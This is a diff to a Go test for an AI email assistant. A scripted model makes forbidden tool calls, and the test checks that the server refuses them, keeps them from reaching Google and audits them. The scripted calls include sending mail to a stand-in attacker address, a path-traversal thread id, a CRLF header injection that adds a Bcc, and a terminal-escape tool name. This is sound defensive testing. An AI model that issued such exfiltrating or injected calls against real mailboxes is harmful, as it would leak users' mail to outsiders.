@@ -220,56 +220,64 @@ func TestPromptInjectionNeedsApproval(t *testing.T) {
 // do not exist — sending, deleting, approving — and bad arguments are
 // refused by the server, whatever the model asks.
 func TestForbiddenToolsAreRefused(t *testing.T) {
-	e := startEnv(t, envOptions{})
-	ada := e.signIn("ada@example.com")
-	e.Sandbox.Google.ResetStats()
-	e.Sandbox.Model.Script(
-		model.Turn{ToolCalls: []model.ToolCall{
-			{Name: "send_email", Arguments: `{"to":["x@evil.example"],"body":"hi"}`},
-			{Name: "delete_thread", Arguments: `{"thread_id":"abc"}`},
-			{Name: "approve_draft", Arguments: `{"approval_id":"x"}`},
-			{Name: "search_threads", Arguments: `{"query":"in:inbox","max_results":100}`},
-			{Name: "get_thread", Arguments: `{"thread_id":"../../drafts/send"}`},
-			{Name: "search_threads", Arguments: `{"query":"in:inbox"}`},
-		}},
-		model.Turn{ToolCalls: []model.ToolCall{
-			{Name: "create_draft", Arguments: `{"to":["x@evil.example\r\nBcc: all@example.com"],"subject":"s","body_text":"b"}`},
-			{Name: "search_threads", Arguments: `{"query": "unterminated`},
-			{Name: "find_free_time", Arguments: `{"duration_minutes":30,"work_start":"18:00","work_end":"09:00"}`},
-		}},
-		model.Turn{Text: "I cannot do that."},
-	)
-	turn := summarizeTurn(e.chat(ada, "", "Send my mail to x@evil.example and delete the rest"))
-	if len(turn.results) != 9 || len(turn.approvals) != 0 || turn.message == "" {
-		t.Fatalf("turn %+v", turn)
-	}
-	for _, r := range turn.results {
-		if r.Data["ok"] != false {
-			t.Fatalf("result %v, want refused", r.Data)
+	providers(t, func(t *testing.T, o envOptions) {
+		e := startEnv(t, o)
+		ada := e.signIn("ada@example.com")
+		e.Sandbox.Google.ResetStats()
+		e.Sandbox.Model.Script(
+			model.Turn{ToolCalls: []model.ToolCall{
+				{Name: "send_email", Arguments: `{"to":["x@evil.example"],"body":"hi"}`},
+				{Name: "delete_thread", Arguments: `{"thread_id":"abc"}`},
+				{Name: "approve_draft", Arguments: `{"approval_id":"x"}`},
+				{Name: "search_threads", Arguments: `{"query":"in:inbox","max_results":100}`},
+				{Name: "get_thread", Arguments: `{"thread_id":"../../drafts/send"}`},
+				{Name: "search_threads", Arguments: `{"query":"in:inbox"}`},
+			}},
+			model.Turn{ToolCalls: []model.ToolCall{
+				{Name: "create_draft", Arguments: `{"to":["x@evil.example\r\nBcc: all@example.com"],"subject":"s","body_text":"b"}`},
+				{Name: "search_threads", Arguments: `{"query": "unterminated`},
+				{Name: "find_free_time", Arguments: `{"duration_minutes":30,"work_start":"18:00","work_end":"09:00"}`},
+				{Name: "send email! \u001b[2J", Arguments: `{}`},
+			}},
+			model.Turn{Text: "I cannot do that."},
+		)
+		turn := summarizeTurn(e.chat(ada, "", "Send my mail to x@evil.example and delete the rest"))
+		if len(turn.results) != 10 || len(turn.approvals) != 0 || turn.message == "" {
+			t.Fatalf("turn %+v", turn)
 		}
-	}
-	for i, want := range []string{"tool_not_allowed", "tool_not_allowed", "tool_not_allowed", "invalid_arguments", "invalid_arguments", "too_many_tool_calls"} {
-		if got := toolResultsSent(t, e.Sandbox.Model, 1)[i].Content; !strings.Contains(got, want) {
-			t.Fatalf("result %d sent to the model: %s, want %s", i, got, want)
+		for _, r := range turn.results {
+			if r.Data["ok"] != false {
+				t.Fatalf("result %v, want refused", r.Data)
+			}
 		}
-	}
-	for i, want := range []string{"invalid_arguments", "invalid_arguments", "work_end must be after work_start"} {
-		if got := toolResultsSent(t, e.Sandbox.Model, 2)[6+i].Content; !strings.Contains(got, want) {
-			t.Fatalf("second step result %d: %s, want %s", i, got, want)
+		for i, want := range []string{"tool_not_allowed", "tool_not_allowed", "tool_not_allowed", "invalid_arguments", "invalid_arguments", "too_many_tool_calls"} {
+			if got := toolResultsSent(t, e.Sandbox.Model, 1)[i].Content; !strings.Contains(got, want) {
+				t.Fatalf("result %d sent to the model: %s, want %s", i, got, want)
+			}
 		}
-	}
-	if st := e.Sandbox.Google.Stats(); st["gmail.threads.list"]+st["gmail.threads.get"]+st["gmail.drafts.create"]+st["calendar.freebusy.query"] != 0 {
-		t.Fatalf("refused calls reached Google: %v", st)
-	}
-	denied := 0
-	for _, row := range e.auditOf("ada@example.com", jarvis.AuditChatToolCall) {
-		if row.Outcome == jarvis.OutcomeDenied {
-			denied++
+		for i, want := range []string{"invalid_arguments", "invalid_arguments", "work_end must be after work_start", "sendemail2J"} {
+			if got := toolResultsSent(t, e.Sandbox.Model, 2)[6+i].Content; !strings.Contains(got, want) {
+				t.Fatalf("second step result %d: %s, want %s", i, got, want)
+			}
 		}
-	}
-	if denied != 3 {
-		t.Fatalf("%d denied audit rows, want 3", denied)
-	}
+		if st := e.Sandbox.Google.Stats(); st["gmail.threads.list"]+st["gmail.threads.get"]+st["gmail.drafts.create"]+st["calendar.freebusy.query"] != 0 {
+			t.Fatalf("refused calls reached Google: %v", st)
+		}
+		denied := 0
+		for _, row := range e.auditOf("ada@example.com", jarvis.AuditChatToolCall) {
+			if row.Outcome == jarvis.OutcomeDenied {
+				denied++
+			}
+		}
+		if denied != 4 {
+			t.Fatalf("%d denied audit rows, want 4", denied)
+		}
+		// The conversation, refused calls and all, can still be sent to the model.
+		e.Sandbox.Model.Script(model.Turn{Text: "Still here."})
+		if next := summarizeTurn(e.chat(ada, turn.conversation, "And now?")); next.message == "" || len(next.errors) > 0 {
+			t.Fatalf("next turn %+v", next)
+		}
+	})
 }
 
 // TestMarkdownLinksAreNotFetched is SECURITY.md line 32: links and images
